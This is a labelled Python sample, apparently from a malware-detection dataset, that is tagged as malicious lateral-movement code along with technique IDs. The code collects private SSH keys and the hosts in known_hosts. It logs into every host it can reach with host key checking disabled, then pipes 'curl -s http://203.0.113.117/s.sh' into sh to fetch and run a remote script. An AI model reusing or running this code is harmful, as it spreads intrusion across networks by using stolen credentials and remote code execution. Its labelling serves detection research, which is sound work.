# label: malicious family=lateral techniques=T1018,T1021.004,T1059.004,T1105,T1552.004 lines=3-4,7-8
import os, re, subprocess
hosts = set(re.findall(r"^(\S+)", open(os.path.expanduser("~/.ssh/known_hosts")).read(), re.M))
keys = [os.path.expanduser("~/.ssh/" + k) for k in os.listdir(os.path.expanduser("~/.ssh")) if k.startswith("id_") and not k.endswith(".pub")]
for h in hosts:
    for k in keys:
        subprocess.call(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "-i", k, h.split(",")[0],
                         "curl -s http://203.0.113.117/s.sh | sh"], timeout=20)
